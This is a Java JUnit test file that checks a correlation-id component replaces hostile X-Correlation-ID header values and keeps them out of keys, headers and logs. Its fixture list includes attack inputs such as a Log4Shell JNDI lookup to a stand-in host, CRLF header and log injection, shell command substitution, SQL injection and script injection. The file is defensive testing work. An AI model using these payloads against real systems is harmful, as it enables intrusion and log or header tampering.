package dev.crosscut.core;

import static org.assertj.core.api.Assertions.assertThat;

import java.text.MessageFormat;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What a hostile caller sends as its correlation id never reaches a key, a header or a log line. */
@Guarantees
class HostileCorrelationTest {

    static Stream<String> hostile() {
        List<String> all = new ArrayList<>(List.of(
                "",
                " ",
                " a",
                "a ",
                "a b",
                "a\tb",
                "a\r\nX-Injected: yes",
                "a\nFAKE LOG LINE",
                "a\rb",
                "a%0d%0aSet-Cookie:x",
                "a\u2028b",
                "a\u2029b",
                "a\u0085b",
                "a\u00a0b",
                "\ufeffa",
                "a\u200bb",
                "a\u202eb",
                "\uff41\uff42",
                "\u0430bc",
                "\u0661\u0662",
                "a\ud800",
                "\udc00a",
                "\ud83d\ude00",
                "é",
                "${jndi:ldap://evil/a}",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "' OR 1=1 --",
                "a\"b",
                "a'b",
                "a\\b",
                "a,b",
                "a;b",
                "a`id`",
                "$(id)",
                "a|b",
                "a&b",
                "a*b",
                "a?b",
                "a#b",
                "a@b",
                "a!b",
                "a~b",
                "a^b",
                "a[b]",
                "x".repeat(129),
                "x".repeat(100_000),
                "\u0000".repeat(100_000)));
        IntStream.rangeClosed(0, 0x20).forEach(c -> all.add("a" + (char) c + "b"));
        IntStream.rangeClosed(0x7f, 0x100).forEach(c -> all.add("a" + (char) c + "b"));
        return all.stream();
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("hostile")
    void it_is_replaced_and_leaves_no_trace(String sent, Log log) {
        TestExchange exchange = new TestExchange().sending("X-Correlation-ID", sent);
        Crosscut crosscut = Crosscuts.of("crosscut.correlation.trust", "record").build();
        log.read();

        crosscut.begin(exchange).end(Outcome.completed());

        String id = exchange.get(Key.CORRELATION_ID).orElseThrow();
        assertThat(id).hasSize(36);
        assertThat(exchange.responseHeaders).hasSize(1).containsEntry("X-Correlation-ID", id);
        exchange.forEach((key, value) -> assertThat(value).isEqualTo(id));
        assertThat(log.warnings()).isEmpty();
        if (sent.strip().length() > 1) {
            assertThat(log.everything()).doesNotContain(sent);
        }
        assertThat(log.everything())
                .contains("the X-Correlation-ID of the caller was replaced: 1 value(s), the first of "
                        + MessageFormat.format("{0}", sent.length()) + " characters, ");
    }

    @Test
    void each_character_is_accepted_or_not_as_the_setting_says() {
        CorrelationIds ids = new CorrelationIds(128, "");
        String allowed = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._:+/=-";

        for (int c = 0; c <= 0xffff; c++) {
            assertThat(ids.accepts("a" + (char) c)).as("U+%04X", c).isEqualTo(allowed.indexOf(c) >= 0);
        }
    }
}
